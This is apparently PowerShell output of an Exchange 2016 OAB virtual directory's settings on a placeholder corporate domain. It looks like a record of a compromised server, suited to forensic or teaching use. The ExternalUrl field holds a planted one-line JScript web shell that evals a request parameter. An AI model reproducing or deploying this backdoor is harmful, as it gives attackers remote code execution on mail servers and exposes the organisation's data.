

RunspaceId                      : 38c80ab8-3729-819e-55f8-140f74a87a04
PollInterval                    : 480
OfflineAddressBooks             :
RequireSSL                      : True
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : True
MetabasePath                    : IIS://ex2016.corp.contoso.com/W3SVC/1/ROOT/OAB
Path                            : C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB
ExtendedProtectionTokenChecking : None
ExtendedProtectionFlags         : {}
ExtendedProtectionSPNList       : {}
AdminDisplayVersion             : Version 15.1 (Build 2106.2)
Server                          : EX2016
InternalUrl                     : https://ex2016.corp.contoso.com/OAB
InternalAuthenticationMethods   : {WindowsIntegrated}
ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["pwd2021"],"unsafe");}</script>
ExternalAuthenticationMethods   : {WindowsIntegrated}
AdminDisplayName                :
ExchangeVersion                 : 0.10 (14.0.100.0)
Name                            : OAB (Default Web Site)
DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EX2016,CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Contoso,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=corp,DC=contoso,DC=com
Identity                        : EX2016\OAB (Default Web Site)
Guid                            : c8b29720-795b-8cfa-6e10-0e02d0fbc8db
ObjectCategory                  : corp.contoso.com/Configuration/Schema/ms-Exch-OAB-Virtual-Directory
ObjectClass                     : {top, msExchVirtualDirectory, msExchOABVirtualDirectory}
WhenChanged                     : 3/3/2021 2:14:27 AM
WhenCreated                     : 10/12/2020 9:31:05 AM
WhenChangedUTC                  : 3/3/2021 10:14:27 AM
WhenCreatedUTC                  : 10/12/2020 4:31:05 PM
OrganizationId                  :
Id                              : EX2016\OAB (Default Web Site)
OriginatingServer               : DC01.corp.contoso.com
IsValid                         : True
ObjectState                     : Unchanged


